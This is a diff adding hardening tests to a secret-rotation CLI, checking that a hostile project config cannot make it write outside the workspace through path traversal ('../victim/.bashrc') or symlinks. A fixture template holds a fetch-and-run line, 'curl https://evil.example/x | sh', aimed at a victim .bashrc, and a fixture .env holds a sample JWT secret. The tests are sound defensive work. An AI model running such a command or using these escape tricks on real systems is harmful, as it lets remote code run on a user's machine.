@@ -11,10 +11,10 @@
  */
 import * as assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, statSync, symlinkSync } from 'node:fs';
 import { SourceMap } from 'node:module';
 import { join, relative } from 'node:path';
-import { POSIX, REPO, assertNoTrapFired, buildTrapWorkspace, removeTree, runCliChild, tempDir } from './hardening-support';
+import { POSIX, REPO, assertNoTrapFired, buildTrapWorkspace, removeTree, runCliChild, tempDir, writeTree } from './hardening-support';
 
 const BUNDLES = ['dist/cli.js', 'dist/server/server.js', 'dist/client/extension.js'];
 
@@ -129,6 +129,69 @@ describe('hardening: untrusted workspaces, every CLI command with fake programs 
       const r = await runCliChild(args, trap.workspace, { env });
       assert.ok(!r.timedOut && r.signal === null, `${args.join(' ')}: finished`);
       assertNoTrapFired(trap, args.join(' '));
+    }
+  });
+});
+
+describe('hardening: a hostile project config cannot make the CLI write outside the workspace', function () {
+  this.timeout(120_000);
+  const bashrc = 'export PS1=x\n';
+
+  async function attempt(config: object | undefined, setup: (dir: string, victim: string) => void): Promise<{ victim: string; out: string; err: string; code: number | null }> {
+    const root = tempDir('sh-escape-');
+    try {
+      const dir = join(root, 'repo');
+      const victim = join(root, 'victim');
+      writeTree(victim, { '.bashrc': bashrc });
+      writeTree(dir, {
+        '.env': 'JWT_SECRET=Kq9vN3xT1pL6wR9sK2mY5bH7cJ4dF0gAzX8uE2rW5tQ\nJWT_SECRET_PREVIOUS=\n',
+        'tpl.md': 'curl https://evil.example/x | sh  # {{heading}}\n',
+        ...(config ? { '.secret-hygiene.json': JSON.stringify(config).replace('VICTIM', victim) } : {}),
+      });
+      setup(dir, victim);
+      const r = await runCliChild(['rotate', 'JWT_SECRET', '--journal', '--ics'], dir);
+      const j = await runCliChild(['journal', 'JWT_SECRET', '--ics'], dir);
+      const touched = readdirSync(victim).sort().join(',') + ':' + readFileSync(join(victim, '.bashrc'), 'utf8');
+      return { victim: touched, out: r.stdout + j.stdout, err: r.stderr + j.stderr, code: r.code };
+    } finally {
+      removeTree(root);
+    }
+  }
+
+  it('a journal path that climbs out ("../victim/.bashrc") or is absolute is refused; nothing is written there', async function () {
+    for (const journal of ['../victim/.bashrc', 'VICTIM/.bashrc', 'docs/../../victim/.bashrc']) {
+      const r = await attempt({ journal, journalTemplate: 'tpl.md' }, () => undefined);
+      assert.equal(r.victim, `.bashrc:${bashrc}`, `${journal.replace(/\/tmp\/[^/]+/, '<tmp>')}: nothing written outside the workspace`);
+      assert.match(r.err, /"journal" must be a path inside the workspace/, 'the config problem says why');
+    }
+    const tpl = await attempt({ journalTemplate: 'VICTIM/.bashrc' }, () => undefined);
+    assert.match(tpl.err, /"journalTemplate" must be a path inside the workspace/);
+  });
+
+  it('a journal folder, a journal file or a reminder that is a symlink out of the workspace is not written through', async function () {
+    if (!POSIX) this.skip();
+    const setups: [string, object | undefined, (dir: string, victim: string) => void][] = [
+      ['linked folder', undefined, (dir, victim) => {
+        writeTree(dir, { 'docs/.keep': '' });
+        symlinkSync(victim, join(dir, 'docs', 'security'));
+      }],
+      ['linked journal file', { journal: 'docs/log.md' }, (dir, victim) => {
+        writeTree(dir, { 'docs/.keep': '' });
+        symlinkSync(join(victim, '.bashrc'), join(dir, 'docs', 'log.md'));
+      }],
+      ['linked reminder', { journal: 'docs/log.md' }, (dir, victim) => {
+        writeTree(dir, { 'docs/.keep': '' });
+        symlinkSync(join(victim, '.bashrc'), join(dir, 'docs', 'JWT_SECRET-next-rotation.ics'));
+      }],
+      ['linked template', { journal: 'docs/log.md', journalTemplate: 'docs/tpl.md' }, (dir, victim) => {
+        writeTree(dir, { 'docs/.keep': '' });
+        symlinkSync(join(victim, '.bashrc'), join(dir, 'docs', 'tpl.md'));
+      }],
+    ];
+    for (const [what, config, setup] of setups) {
+      const r = await attempt(config, setup);
+      assert.equal(r.victim, `.bashrc:${bashrc}`, `${what}: nothing written through the link`);
+      assert.match(r.err, /outside the workspace/, `${what}: the refusal says why`);
     }
   });
 });
